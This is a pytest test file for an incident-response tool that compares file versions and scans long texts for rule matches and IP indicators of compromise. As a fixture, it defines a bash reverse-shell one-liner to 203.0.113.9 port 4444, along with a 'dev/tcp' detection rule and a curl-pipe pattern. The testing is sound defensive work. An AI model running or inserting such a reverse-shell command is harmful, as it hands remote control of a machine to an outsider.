"""Texts too long to be held: searched to their end, as if they were held, whatever blocks their bytes come in."""

from __future__ import annotations

import hashlib
import io
import tracemalloc
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from irkit.compare import contents, long_text
from irkit.compare.comparison import Comparison
from irkit.compare.conditions import sources
from irkit.compare.contents import BLOCK, TEXT
from irkit.compare.ioc_formats import load_ioc
from irkit.compare.long_text import LongText, Original, Searches, lines
from irkit.compare.patterns import Regex
from irkit.compare.vocabulary import Searched
from tests.unit.compare.sides import Made, facts, side, verdicts

PATTERNS = ["a", "^b$", "a.b", r"a\sb", "[^c]b", "^$", r"\Aab", r"b\z", "a\nb", "(?s)a.b", "(?-m)^a", r"\bb", "a|c$"]
FACTS = ("added_lines", "removed_lines", "content")
TEXTS = st.lists(st.sampled_from([b"a", b"b", b"c", b" ", b"\n", b"\r", b"ab", b"\xff"]), max_size=24).map(b"".join)
SHELL = b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"
PAD = (b"# pad" + b"." * 60 + b"\n") * 17_000


def fed(text: LongText, data: bytes, size: int) -> dict[str, set[tuple[str, ...]]]:
    for place in range(0, len(data), size):
        text.feed(data[place : place + size])
    found = text.values()
    return {name: set(value.found) for name, value in found.items() if isinstance(value, Searched)}


def expected(before: bytes, after: bytes, wanted: list[tuple[Regex, ...]]) -> dict[str, set[tuple[str, ...]]]:
    """By lines, each by itself."""
    old, new = (Counter(data.removesuffix(b"\n").split(b"\n")) if data else Counter() for data in (before, after))
    of = {"added_lines": new - old, "removed_lines": old - new, "content": new}
    return {
        name: {
            sources(one)
            for one in wanted
            if any(p.search(line.decode("utf-8", "surrogateescape")) for p in one for line in found)
        }
        for name, found in of.items()
    }


@given(before=TEXTS, after=TEXTS, size=st.integers(1, 9))
def test_as_if_it_were_held(before: bytes, after: bytes, size: int) -> None:
    wanted = [*((Regex(one),) for one in PATTERNS), (Regex("a b"), Regex("^c"))]
    searches = Searches((fact, one) for one in wanted for fact in FACTS)
    found = fed(LongText(searches, Original(before, len(before))), after, size)
    assert found == expected(before, after, wanted)


@given(old=TEXTS, more=TEXTS, size=st.integers(1, 9), wrong=st.booleans())
def test_what_only_grew_needs_no_original(old: bytes, more: bytes, size: int, wrong: bool) -> None:
    wanted = [(Regex(one),) for one in PATTERNS]
    digest = hashlib.sha256(old + (b"!" if wrong else b"")).hexdigest()
    text = LongText(Searches((fact, one) for one in wanted for fact in FACTS), Original(None, len(old), digest))
    found = fed(text, old + more, size)
    assert text.held == (not wrong and bool(more))
    if text.held:
        begun = old[old.rfind(b"\n") + 1 :]
        assert found["added_lines"] == expected(b"", begun + more, wanted)["content"] and not found["removed_lines"]
    assert found["content"] == expected(b"", old + more, wanted)["content"]


def test_a_line_that_is_too_long_is_searched_in_pieces(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(long_text, "LINE", 64)
    monkeypatch.setattr(long_text, "OVERLAP", 16)
    searches = Searches([("content", (Regex("needle"),))])
    for place in range(200):
        text = LongText(searches, Original())
        assert fed(text, b"x" * place + b"needle" + b"x" * (200 - place), 8)["content"]
        assert text.in_pieces
    short = LongText(searches, Original())
    fed(short, b"x\n" * 200, 8)
    assert not short.in_pieces


def test_no_text_makes_it_slow() -> None:
    """A pattern that reaches over lines would look at all that follows, once for each line."""
    (pattern,) = (Regex("curl[^|]*[|]"),)
    data = b"curl\n" * 50_000 + b"|"
    assert list(lines((pattern,), data)) == []
    assert len(list(lines((Regex("curl"),), data))) == 50_000


def test_memory_does_not_grow_with_the_text(tmp_path: Path) -> None:
    searches = Searches(verdicts("r change low {added_lines: evil}").searches())
    tracemalloc.start()
    text = LongText(searches, Original(b"evil\n", 5))
    for number in range(64):
        text.feed(b"evil\n" * (number == 3) + b"%d fine\n" % number * (BLOCK // 8))
    values = text.values()
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert values["added_lines"] == Searched(frozenset()) and peak < 8 * BLOCK


def compared(folder: Path, old: bytes | None, new: bytes, originals: dict[str, bytes] | None = None) -> Comparison:
    rules = (
        "added change high {added_lines: 'dev/tcp'}\n"
        "removed change low {removed_lines: '^keep'}\n"
        "quiet change low {content: pad, not: {content: 'dev/tcp'}}"
    )
    found = Comparison(verdicts(rules), diffs=True)
    before = {} if old is None else {"/opt/run": old}
    rows = list(found.of_evidence(side(folder, before, {"/opt/run": new}, originals=originals)))
    assert rows[0].diff is not None or originals is not None
    return found


def met(found: Comparison) -> set[str]:
    return {one.rule for one in found.findings}


@pytest.mark.thorough
def test_a_long_text_is_no_gap(tmp_path: Path) -> None:
    found = compared(tmp_path / "a", None, PAD + SHELL)
    assert (met(found), found.gaps) == ({"added"}, [])
    found = compared(tmp_path / "b", b"keep\n" + SHELL, PAD + SHELL + b"keep")
    assert (met(found), found.gaps) == (set(), [])
    found = compared(tmp_path / "c", b"keep\n" + SHELL, PAD + SHELL * 2)
    assert (met(found), found.gaps) == ({"added", "removed"}, [])
    found = compared(tmp_path / "d", None, PAD)
    assert (met(found), found.gaps) == ({"quiet"}, [])


def test_what_stands_behind_many_lines_is_found(tmp_path: Path) -> None:
    found = compared(tmp_path / "a", None, b"#!/bin/sh\n" + b"\n" * 100_000 + SHELL)
    assert (met(found), found.gaps) == ({"added"}, [])


def test_a_log_that_grew_is_no_gap(tmp_path: Path) -> None:
    """The image's own bytes are not kept: they are known by their digest."""
    found = compared(tmp_path / "a", PAD + SHELL, PAD + SHELL + b"more\n", {})
    assert (met(found), found.gaps) == (set(), [])
    found = compared(tmp_path / "b", PAD, PAD + SHELL, {})
    assert (met(found), found.gaps) == ({"added"}, [])
    found = compared(tmp_path / "c", PAD + b"x", PAD + SHELL, {})
    (gap,) = found.gaps
    assert met(found) == set() and "what the image had" in gap.why


@pytest.mark.thorough
def test_indicators_are_found_behind_the_first_mebibyte(tmp_path: Path) -> None:
    listed = tmp_path / "list"
    listed.write_text("198.51.100.77\n")
    data = PAD + b"connect 198.51.100.77\n"
    made = Made().add("/opt/run", data)
    assert len(PAD) > TEXT
    looks = contents.Examiner(made.at(tmp_path / "b"), verdicts(lists=load_ioc([listed])), [])
    (shown,) = looks.look(made.changes[0][0], io.BytesIO(data)).values["ioc"]  # type: ignore[misc,union-attr]
    assert "198.51.100.77" in str(shown)
    assert facts(data).size == len(data)
